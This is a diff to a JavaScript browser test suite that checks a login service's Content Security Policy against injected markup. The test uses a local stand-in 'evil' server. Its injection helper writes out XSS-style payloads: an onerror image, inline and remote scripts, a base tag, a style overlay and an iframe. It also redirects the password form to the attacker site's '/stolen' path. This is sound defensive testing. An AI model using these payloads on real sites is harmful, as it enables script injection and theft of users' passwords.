@@ -15,10 +15,12 @@ const OWN_SECRET = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8";
 
 describe("an attacker", { concurrency: false }, () => {
   let town, browser, terminal, evil, evilSite;
+  const heard = [];
 
   before(async () => {
     [town, browser, terminal] = await Promise.all([Town.open({ people: [MARKER] }), launch(), Terminal.open()]);
     evil = createServer((request, response) => {
+      heard.push(`${request.method} ${request.url}`);
       const target = new URL(request.url, "http://evil").searchParams.get("target");
       response.setHeader("content-type", "text/html");
       response.end(
@@ -64,6 +66,23 @@ describe("an attacker", { concurrency: false }, () => {
     const answered = page.waitForResponse(target);
     await page.getByRole("button", { name: "Play" }).click();
     assert.equal((await answered).status(), 403);
+    await profile.close();
+  });
+
+  test("injected markup: no script, style, frame or form of it does anything", async () => {
+    const profile = await Profile.fresh(browser);
+    const { page } = profile;
+    await page.goto(`${town.issuer}/account`);
+    await page.getByLabel("Password", { exact: true }).fill(PASSWORD);
+    heard.length = 0;
+    const { ran, styled, broken } = await page.evaluate(inject, evilSite);
+    assert.deepEqual(ran, [], "no script ran");
+    assert.equal(styled, false, "no style hides or covers anything");
+    const rules = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem"];
+    assert.deepEqual(broken, [...rules, "style-src-attr", "style-src-elem"]);
+    assert.deepEqual(heard, [], "the attacker's site hears nothing, the password least of all");
+    assert.ok(page.url().startsWith(town.issuer));
+    assert.ok(profile.complaints.splice(0).every((text) => text.includes("Content Security Policy")));
     await profile.close();
   });
 
@@ -159,6 +178,29 @@ describe("an attacker", { concurrency: false }, () => {
         form.append(input);
       }
     }
+  }
+
+  /** Puts markup into the page as a hole in a template would; what ran, whether it was styled, and which rules it broke. */
+  async function inject(site) {
+    window.ran = [];
+    const broken = new Set();
+    document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
+    const hole = document.createElement("div");
+    document.body.append(hole);
+    hole.innerHTML = `<base href="${site}/"><style>#covered { position: fixed }</style>
+      <p id="covered" style="position: fixed"></p><iframe src="${site}/frame?target=/"></iframe>
+      <img src="data:," onerror="ran.push('attribute')"><img src="${site}/pixel">`;
+    for (const script of [{ textContent: "ran.push('inline')" }, { src: `${site}/script.js` }]) {
+      hole.append(Object.assign(document.createElement("script"), script));
+    }
+    await fetch(`${site}/fetched`, { mode: "no-cors" }).catch(() => {});
+    const form = document.querySelector("form[action='/login/password']");
+    form.action = `${site}/stolen`;
+    form.submit();
+    // Each broken rule is told by a task of its own; where one is not told at all, this gives up.
+    for (let turns = 0; turns < 500 && broken.size < 9; turns += 1) await new Promise((done) => setTimeout(done));
+    const styled = getComputedStyle(hole.querySelector("#covered")).position === "fixed";
+    return { ran: window.ran, styled, broken: [...broken].sort() };
   }
 
   /** Hears everything that the page receives: headers, bodies and events. */
